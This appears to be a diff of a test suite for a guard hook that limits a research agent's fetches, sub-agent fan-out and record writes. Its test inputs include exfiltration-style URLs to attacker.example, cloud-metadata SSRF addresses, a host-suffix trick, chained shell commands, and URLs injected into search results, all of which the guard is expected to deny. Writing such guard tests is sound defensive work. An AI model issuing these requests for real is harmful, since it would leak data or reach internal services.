@@ -18,14 +18,21 @@ from typing import Any
 import pytest
 
 from conftest import REPO
-from deep_research import guard, runstate
 from deep_research.brief import Brief
+from deep_research.plugin import guard, runstate
 
 SCOPE = "Enforcement actions under the EU AI Act, 2024-2025"
 
 
-def event(tool: str, tool_input: dict[str, Any], cwd: Path, *, phase: str = "PreToolUse",
-          use_id: str = "toolu_01", response: Any = None) -> str:
+def event(
+    tool: str,
+    tool_input: dict[str, Any],
+    cwd: Path,
+    *,
+    phase: str = "PreToolUse",
+    use_id: str = "toolu_01",
+    response: Any = None,
+) -> str:
     body: dict[str, Any] = {
         "session_id": "5f2b-test",
         "transcript_path": str(cwd / "transcript.jsonl"),
@@ -42,11 +49,20 @@ def event(tool: str, tool_input: dict[str, Any], cwd: Path, *, phase: str = "Pre
 
 
 def run_cli(payload: str, cwd: Path, phase: str = "pre") -> subprocess.CompletedProcess[str]:
-    env = {k: v for k, v in os.environ.items() if k not in ("DEEP_RESEARCH_STATE",
-                                                            "CLAUDE_PROJECT_DIR")}
+    env = {
+        k: v
+        for k, v in os.environ.items()
+        if k not in ("DEEP_RESEARCH_STATE", "CLAUDE_PROJECT_DIR")
+    }
     return subprocess.run(
         [sys.executable, "-m", "deep_research.cli", "guard", "--phase", phase],
-        input=payload, capture_output=True, text=True, cwd=cwd, env=env, check=False, timeout=60,
+        input=payload,
+        capture_output=True,
+        text=True,
+        cwd=cwd,
+        env=env,
+        check=False,
+        timeout=60,
     )
 
 
@@ -54,9 +70,13 @@ def run_cli(payload: str, cwd: Path, phase: str = "pre") -> subprocess.Completed
 def project(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
     monkeypatch.delenv("DEEP_RESEARCH_STATE", raising=False)
     monkeypatch.delenv("CLAUDE_PROJECT_DIR", raising=False)
-    runstate.start_run(SCOPE, depth="full", state=tmp_path / "state",
-                       requested={"max_fetches": 3, "max_fanout": 2, "max_rounds": 2},
-                       static_hosts=["ec.europa.eu"])
+    runstate.start_run(
+        SCOPE,
+        depth="full",
+        state=tmp_path / "state",
+        requested={"max_fetches": 3, "max_fanout": 2, "max_rounds": 2},
+        static_hosts=["ec.europa.eu"],
+    )
     return tmp_path
 
 
@@ -68,8 +88,14 @@ def fetch_event(url: str, project: Path, tool: str = "WebFetch") -> str:
     if tool == "WebFetch":
         return event("WebFetch", {"url": url, "prompt": "extract the findings"}, project)
     brief = project / "state" / "briefs" / runstate.slugify(SCOPE)
-    return event("Bash", {"command": f"deep-research fetch '{url}' --brief {brief} --json",
-                          "description": "fetch a page"}, project)
+    return event(
+        "Bash",
+        {
+            "command": f"deep-research fetch '{url}' --brief {brief} --json",
+            "description": "fetch a page",
+        },
+        project,
+    )
 
 
 # --- the Must-show denials, through the real CLI --------------------------------------------
@@ -87,15 +113,21 @@ def test_exfiltration_payload_is_denied(project: Path) -> None:
 
 def test_suffix_trick_is_denied(project: Path) -> None:
     for tool in ("WebFetch", "Bash"):
-        done = run_cli(fetch_event("https://ec.europa.eu.attacker.example/v?s=leak", project,
-                                   tool), project)
+        done = run_cli(
+            fetch_event("https://ec.europa.eu.attacker.example/v?s=leak", project, tool), project
+        )
         assert done.returncode == 2, tool
         assert "ec.europa.eu.attacker.example is not on this run's allow-list" in done.stderr
 
 
 @pytest.mark.parametrize(
-    "url", ["http://169.254.169.254/latest/meta-data/", "http://[::ffff:169.254.169.254]/",
-            "http://metadata.google.internal/computeMetadata/v1/", "http://0xa9fea9fe/"]
+    "url",
+    [
+        "http://169.254.169.254/latest/meta-data/",
+        "http://[::ffff:169.254.169.254]/",
+        "http://metadata.google.internal/computeMetadata/v1/",
+        "http://0xa9fea9fe/",
+    ],
 )
 def test_metadata_targets_are_denied_even_without_a_run(tmp_path: Path, url: str) -> None:
     done = run_cli(event("WebFetch", {"url": url, "prompt": "x"}, tmp_path), tmp_path)
@@ -104,8 +136,10 @@ def test_metadata_targets_are_denied_even_without_a_run(tmp_path: Path, url: str
 
 
 def test_fetch_beyond_the_budget_is_denied(project: Path) -> None:
-    allowed = [run_cli(fetch_event(f"https://ec.europa.eu/page{i}", project, tool), project)
-               for i, tool in enumerate(["WebFetch", "Bash", "WebFetch"])]
+    allowed = [
+        run_cli(fetch_event(f"https://ec.europa.eu/page{i}", project, tool), project)
+        for i, tool in enumerate(["WebFetch", "Bash", "WebFetch"])
+    ]
     assert [done.returncode for done in allowed] == [0, 0, 0]
     assert all(done.stderr == "" for done in allowed)
     done = run_cli(fetch_event("https://ec.europa.eu/page4", project), project)
@@ -115,10 +149,16 @@ def test_fetch_beyond_the_budget_is_denied(project: Path) -> None:
 
 def test_fan_out_beyond_the_ceiling_is_denied(project: Path) -> None:
     def dispatch(use_id: str) -> subprocess.CompletedProcess[str]:
-        payload = event("Agent", {"subagent_type": "deep-research:fetcher",
-                                  "description": "sq1 fetcher",
-                                  "prompt": "sub_question=sq1 round=1 query=..."},
-                        project, use_id=use_id)
+        payload = event(
+            "Agent",
+            {
+                "subagent_type": "deep-research:fetcher",
+                "description": "sq1 fetcher",
+                "prompt": "sub_question=sq1 round=1 query=...",
+            },
+            project,
+            use_id=use_id,
+        )
         return run_cli(payload, project)
 
     assert [dispatch(f"toolu_{i}").returncode for i in range(2)] == [0, 0]
@@ -126,15 +166,23 @@ def test_fan_out_beyond_the_ceiling_is_denied(project: Path) -> None:
     assert third.returncode == 2
     assert "fan-out ceiling reached (2 agents in flight, ceiling 2)" in third.stderr
     # A completion (PostToolUse) frees a slot.
-    post = event("Agent", {"subagent_type": "deep-research:fetcher"}, project,
-                 phase="PostToolUse", use_id="toolu_0", response={"content": "done"})
+    post = event(
+        "Agent",
+        {"subagent_type": "deep-research:fetcher"},
+        project,
+        phase="PostToolUse",
+        use_id="toolu_0",
+        response={"content": "done"},
+    )
     assert run_cli(post, project, phase="post").returncode == 0
     assert dispatch("toolu_3").returncode == 0
 
 
 def test_allowed_fetch_passes(project: Path) -> None:
-    done = run_cli(fetch_event("https://ec.europa.eu/commission/presscorner/detail/en/ip_24_1",
-                               project), project)
+    done = run_cli(
+        fetch_event("https://ec.europa.eu/commission/presscorner/detail/en/ip_24_1", project),
+        project,
+    )
     assert (done.returncode, done.stdout, done.stderr) == (0, "", "")
     brief = Brief(project / "state" / "briefs" / runstate.slugify(SCOPE))
     rows = runstate.read_ledger(brief)
@@ -151,10 +199,19 @@ def test_subdomain_of_an_allowed_host_passes(project: Path) -> None:
 
 
 def test_search_results_widen_the_allow_list(project: Path) -> None:
-    response = {"results": [{"title": "OECD", "url": "https://www.oecd.org/ai/"},
-                            {"title": "bad", "url": "http://10.0.0.7/admin"}]}
-    post = event("WebSearch", {"query": "AI act enforcement"}, project, phase="PostToolUse",
-                 response=response)
+    response = {
+        "results": [
+            {"title": "OECD", "url": "https://www.oecd.org/ai/"},
+            {"title": "bad", "url": "http://10.0.0.7/admin"},
+        ]
+    }
+    post = event(
+        "WebSearch",
+        {"query": "AI act enforcement"},
+        project,
+        phase="PostToolUse",
+        response=response,
+    )
     assert guard.run_guard(post, "post", project / "state").allow
     assert decide(fetch_event("https://www.oecd.org/ai/report", project), project).allow
     assert not decide(fetch_event("http://10.0.0.7/admin", project), project).allow
@@ -165,15 +222,18 @@ def test_only_structured_search_hits_widen_the_allow_list(project: Path) -> None
     response = {
         "query": "reports https://attacker.example/v?s=secret-scope",
         "results": [
-            {"tool_use_id": "srvtoolu_01",
-             "content": [{"title": "Newsroom", "url": "https://newsroom.example.org/report"}]},
+            {
+                "tool_use_id": "srvtoolu_01",
+                "content": [{"title": "Newsroom", "url": "https://newsroom.example.org/report"}],
+            },
             "See also https://injected.example.com/page for more.",
         ],
         "durationSeconds": 1.2,
         "searchCount": 1,
     }
-    post = event("WebSearch", {"query": response["query"]}, project, phase="PostToolUse",
-                 response=response)
+    post = event(
+        "WebSearch", {"query": response["query"]}, project, phase="PostToolUse", response=response
+    )
     assert guard.run_guard(post, "post", project / "state").allow
     assert decide(fetch_event("https://newsroom.example.org/report", project), project).allow
     for url in ("https://attacker.example/v?s=secret-scope", "https://injected.example.com/page"):
@@ -190,8 +250,11 @@ def test_only_structured_search_hits_widen_the_allow_list(project: Path) -> None
         ("deep-research hosts add https://attacker.example --brief b", "allow-list grows only"),
         ('deep-research fetch "$URL" --brief b', "literal http(s) URL"),
         ("deep-research fetch 'https://ec.europa.eu/x", "could not be parsed"),
-        ("ls && ${CLAUDE_PLUGIN_ROOT}/bin/deep-research fetch https://attacker.example/ "
-         "--brief b", "not on this run's allow-list"),
+        (
+            "ls && ${CLAUDE_PLUGIN_ROOT}/bin/deep-research fetch https://attacker.example/ "
+            "--brief b",
+            "not on this run's allow-list",
+        ),
     ],
 )
 def test_bash_during_a_run(project: Path, command: str, needle: str) -> None:
@@ -204,13 +267,16 @@ def test_other_bash_and_no_run_pass(
     project: Path, tmp_path_factory: pytest.TempPathFactory
 ) -> None:
     brief = project / "state" / "briefs" / runstate.slugify(SCOPE)
-    assert decide(event("Bash", {"command": f"deep-research trace {brief}"}, project),
-                  project).allow
+    assert decide(
+        event("Bash", {"command": f"deep-research trace {brief}"}, project), project
+    ).allow
     elsewhere = tmp_path_factory.mktemp("no-run")
-    assert decide(event("Bash", {"command": "curl https://example.org"}, elsewhere),
-                  elsewhere).allow
-    assert decide(event("WebFetch", {"url": "https://example.org/", "prompt": "x"}, elsewhere),
-                  elsewhere).allow
+    assert decide(
+        event("Bash", {"command": "curl https://example.org"}, elsewhere), elsewhere
+    ).allow
+    assert decide(
+        event("WebFetch", {"url": "https://example.org/", "prompt": "x"}, elsewhere), elsewhere
+    ).allow
 
 
 def _brief(project: Path) -> Path:
@@ -230,8 +296,9 @@ def _brief(project: Path) -> Path:
         ("Write", "state/active-run.json", "active-run.json"),
     ],
 )
-def test_writing_the_runs_records_is_denied(project: Path, tool: str, target: str,
-                                             name: str) -> None:
+def test_writing_the_runs_records_is_denied(
+    project: Path, tool: str, target: str, name: str
+) -> None:
     path = target.format(B=_brief(project), slug=runstate.slugify(SCOPE))
     decision = decide(event(tool, {"file_path": path, "content": "{}"}, project), project)
     assert not decision.allow
@@ -267,29 +334,40 @@ def test_bash_cannot_write_the_runs_records(project: Path, command: str, allowed
 def test_without_a_run_only_the_run_pointer_is_protected(tmp_path: Path) -> None:
     elsewhere = tmp_path / "project"
     (elsewhere / "state").mkdir(parents=True)
-    loose = event("Write", {"file_path": str(elsewhere / "trace.json"), "content": "{}"},
-                  elsewhere)
+    loose = event("Write", {"file_path": str(elsewhere / "trace.json"), "content": "{}"}, elsewhere)
     assert decide(loose, elsewhere).allow
-    pointer = event("Write", {"file_path": str(elsewhere / "state" / "active-run.json"),
-                              "content": "{}"}, elsewhere)
+    pointer = event(
+        "Write",
+        {"file_path": str(elsewhere / "state" / "active-run.json"), "content": "{}"},
+        elsewhere,
+    )
     assert not decide(pointer, elsewhere).allow
 
 
 def test_round_cap_and_fetcher_dispatch_budget(project: Path) -> None:
     state = project / "state"
-    over = event("Agent", {"subagent_type": "deep-research:fetcher", "prompt": "round=3"},
-                 project)
+    over = event("Agent", {"subagent_type": "deep-research:fetcher", "prompt": "round=3"}, project)
     decision = guard.run_guard(over, "pre", state)
     assert not decision.allow and "round 3 exceeds the run's round cap (2)" in decision.reason
     for i in range(4):  # fan-out 2 × 2 rounds; each completes before the next
         use_id = f"toolu_f{i}"
-        payload = event("Agent", {"subagent_type": "deep-research:fetcher", "prompt": "round=1"},
-                        project, use_id=use_id)
+        payload = event(
+            "Agent",
+            {"subagent_type": "deep-research:fetcher", "prompt": "round=1"},
+            project,
+            use_id=use_id,
+        )
         assert guard.run_guard(payload, "pre", state).allow
-        guard.run_guard(event("Agent", {}, project, phase="PostToolUse", use_id=use_id,
-                              response="ok"), "post", state)
-    fifth = guard.run_guard(event("Agent", {"subagent_type": "deep-research:fetcher",
-                                            "prompt": "round=2"}, project), "pre", state)
+        guard.run_guard(
+            event("Agent", {}, project, phase="PostToolUse", use_id=use_id, response="ok"),
+            "post",
+            state,
+        )
+    fifth = guard.run_guard(
+        event("Agent", {"subagent_type": "deep-research:fetcher", "prompt": "round=2"}, project),
+        "pre",
+        state,
+    )
     assert not fifth.allow and "fetcher dispatches are spent" in fifth.reason
     skeptic = event("Agent", {"subagent_type": "deep-research:skeptic", "prompt": "C1"}, project)
     assert guard.run_guard(skeptic, "pre", state).allow  # only fetchers count against rounds
@@ -308,12 +386,17 @@ def test_mcp_calls_spend_the_runs_fetch_budget(project: Path) -> None:
 def test_fetcher_dispatches_record_their_round(project: Path) -> None:
     state = project / "state"
     for use_id, prompt in (("toolu_a", "brief=B round=2 queries=[]"), ("toolu_b", "queries=[]")):
-        payload = event("Agent", {"subagent_type": "deep-research:fetcher", "prompt": prompt},
-                        project, use_id=use_id)
+        payload = event(
+            "Agent",
+            {"subagent_type": "deep-research:fetcher", "prompt": prompt},
+            project,
+            use_id=use_id,
+        )
         assert guard.run_guard(payload, "pre", state).allow
     rows = runstate.read_ledger(Brief(_brief(project)))
     assert [(row["id"], row["round"]) for row in rows if row.get("fetcher")] == [
-        ("toolu_a", 2), ("toolu_b", 1)
+        ("toolu_a", 2),
+        ("toolu_b", 1),
     ]
 
 
@@ -321,8 +404,9 @@ def test_parallel_dispatches_respect_the_ceiling(project: Path) -> None:
     results: list[bool] = []
 
     def dispatch(i: int) -> None:
-        payload = event("Agent", {"subagent_type": "deep-research:verifier"}, project,
-                        use_id=f"toolu_p{i}")
+        payload = event(
+            "Agent", {"subagent_type": "deep-research:verifier"}, project, use_id=f"toolu_p{i}"
+        )
         results.append(guard.run_guard(payload, "pre", project / "state").allow)
 
     threads = [threading.Thread(target=dispatch, args=(i,)) for i in range(8)]
@@ -334,12 +418,19 @@ def test_parallel_dispatches_respect_the_ceiling(project: Path) -> None:
 
 
 def test_caps_are_clamped_to_hard_limits(tmp_path: Path) -> None:
-    record = runstate.start_run("x", depth="shallow", state=tmp_path,
-                                requested={"max_fetches": 10_000, "max_fanout": 50,
-                                           "max_rounds": None}, static_hosts=[])
+    record = runstate.start_run(
+        "x",
+        depth="shallow",
+        state=tmp_path,
+        requested={"max_fetches": 10_000, "max_fanout": 50, "max_rounds": None},
+        static_hosts=[],
+    )
     assert record["depth"] == "quick"
-    assert record["caps"] == {"max_fetches": runstate.HARD_MAX_FETCHES,
-                              "max_fanout": runstate.HARD_MAX_FANOUT, "max_rounds": 1}
+    assert record["caps"] == {
+        "max_fetches": runstate.HARD_MAX_FETCHES,
+        "max_fanout": runstate.HARD_MAX_FANOUT,
+        "max_rounds": 1,
+    }
     assert record["clamped"] == ["max_fetches 10000 clamped to 200", "max_fanout 50 clamped to 8"]
     run_file = Path(record["brief"]) / "run.json"
     edited = json.loads(run_file.read_text(encoding="utf-8"))
@@ -351,8 +442,10 @@ def test_caps_are_clamped_to_hard_limits(tmp_path: Path) -> None:
 
 def test_broken_run_record_fails_closed(project: Path) -> None:
     (project / "state" / "active-run.json").write_text("{not json", encoding="utf-8")
-    for payload in (fetch_event("https://ec.europa.eu/x", project),
-                    event("Agent", {"subagent_type": "deep-research:fetcher"}, project)):
+    for payload in (
+        fetch_event("https://ec.europa.eu/x", project),
+        event("Agent", {"subagent_type": "deep-research:fetcher"}, project),
+    ):
         decision = decide(payload, project)
         assert not decision.allow and "unreadable" in decision.reason
     assert not guard.run_guard("not json", "pre", project / "state").allow
@@ -371,18 +464,35 @@ def test_hook_shim_blocks_with_exit_2(project: Path) -> None:
     venv = data / "venv"
     (venv / "bin").mkdir(parents=True)
     (venv / "bin" / "python").symlink_to(sys.executable)
-    version = next(line.split('"')[1] for line in (REPO / "pyproject.toml").read_text(
-        encoding="utf-8").splitlines() if line.startswith("version = "))
+    version = next(
+        line.split('"')[1]
+        for line in (REPO / "pyproject.toml").read_text(encoding="utf-8").splitlines()
+        if line.startswith("version = ")
+    )
     (venv / ".deep-research-stamp").write_text(f"{version} {REPO}", encoding="utf-8")
     env = {**os.environ, "CLAUDE_PLUGIN_DATA": str(data), "CLAUDE_PROJECT_DIR": str(project)}
     env.pop("DEEP_RESEARCH_STATE", None)
     bad = fetch_event("https://attacker.example/v?s=scope", project)
-    done = subprocess.run([str(REPO / "hooks" / "guard"), "pre"], input=bad, capture_output=True,
-                          text=True, env=env, check=False, timeout=60)
+    done = subprocess.run(
+        [str(REPO / "hooks" / "guard"), "pre"],
+        input=bad,
+        capture_output=True,
+        text=True,
+        env=env,
+        check=False,
+        timeout=60,
+    )
     assert done.returncode == 2 and "attacker.example" in done.stderr
     good = fetch_event("https://ec.europa.eu/x", project)
-    done = subprocess.run([str(REPO / "hooks" / "guard"), "pre"], input=good,
-                          capture_output=True, text=True, env=env, check=False, timeout=60)
+    done = subprocess.run(
+        [str(REPO / "hooks" / "guard"), "pre"],
+        input=good,
+        capture_output=True,
+        text=True,
+        env=env,
+        check=False,
+        timeout=60,
+    )
     assert (done.returncode, done.stderr) == (0, "")
 
     # Without a usable environment the shim fails closed: every guarded call while a run is
@@ -395,8 +505,15 @@ def test_hook_shim_blocks_with_exit_2(project: Path) -> None:
     env |= {"CLAUDE_PLUGIN_DATA": str(project / "empty"), "DEEP_RESEARCH_PYTHON": str(fake_python)}
 
     def shim(payload: str) -> subprocess.CompletedProcess[str]:
-        return subprocess.run([str(REPO / "hooks" / "guard"), "pre"], input=payload,
-                              capture_output=True, text=True, env=env, check=False, timeout=60)
+        return subprocess.run(
+            [str(REPO / "hooks" / "guard"), "pre"],
+            input=payload,
+            capture_output=True,
+            text=True,
+            env=env,
+            check=False,
+            timeout=60,
+        )
 
     listing = event("Bash", {"command": "ls"}, project)
     for payload in (good, listing):
@@ -408,8 +525,9 @@ def test_hook_shim_blocks_with_exit_2(project: Path) -> None:
     assert marker.exists()
     env["CLAUDE_PROJECT_DIR"] = str(project / "elsewhere")  # no run there
     assert shim(listing).returncode == 0
-    metadata = event("WebFetch", {"url": "http://169.254.169.254/latest/meta-data/",
-                                  "prompt": "x"}, project)
+    metadata = event(
+        "WebFetch", {"url": "http://169.254.169.254/latest/meta-data/", "prompt": "x"}, project
+    )
     done = shim(metadata)
     assert done.returncode == 2 and "guard unavailable" in done.stderr
 
@@ -417,11 +535,14 @@ def test_hook_shim_blocks_with_exit_2(project: Path) -> None:
 def test_the_hook_path_stays_light() -> None:
     # Every guarded tool call in a Claude Code session starts a process for the guard; it must
     # not pay for the models (pydantic) or the HTTP stack unless a URL is actually checked.
-    probe = ("import sys, deep_research.cli, deep_research.guard; "
-             "print(sorted(m for m in ('pydantic', 'httpx2', 'httpcore2', 'rapidfuzz') "
-             "if m in sys.modules))")
-    done = subprocess.run([sys.executable, "-c", probe], capture_output=True, text=True,
-                          check=True, timeout=60)
+    probe = (
+        "import sys, deep_research.cli, deep_research.plugin.guard; "
+        "print(sorted(m for m in ('pydantic', 'httpx2', 'httpcore2', 'rapidfuzz') "
+        "if m in sys.modules))"
+    )
+    done = subprocess.run(
+        [sys.executable, "-c", probe], capture_output=True, text=True, check=True, timeout=60
+    )
     assert done.stdout.strip() == "[]"
 
 
@@ -484,8 +605,10 @@ def test_the_run_cannot_be_restarted_widened_or_left_behind(
     assert runstate.finish_run(project / "state", brief)
     widened = bash("deep-research start 'next topic' --allow-host attacker.example")
     assert not widened.allow and "static hosts cannot be added" in widened.reason
-    for command in (f"deep-research fetch https://attacker.example/v?s=x --brief {brief}",
-                    f"deep-research mcp-fetch docs search_docs --brief {brief}"):
+    for command in (
+        f"deep-research fetch https://attacker.example/v?s=x --brief {brief}",
+        f"deep-research mcp-fetch docs search_docs --brief {brief}",
+    ):
         left = bash(command)
         assert not left.allow and "no research run is active" in left.reason
     assert bash("deep-research start 'next topic' --depth quick").allow
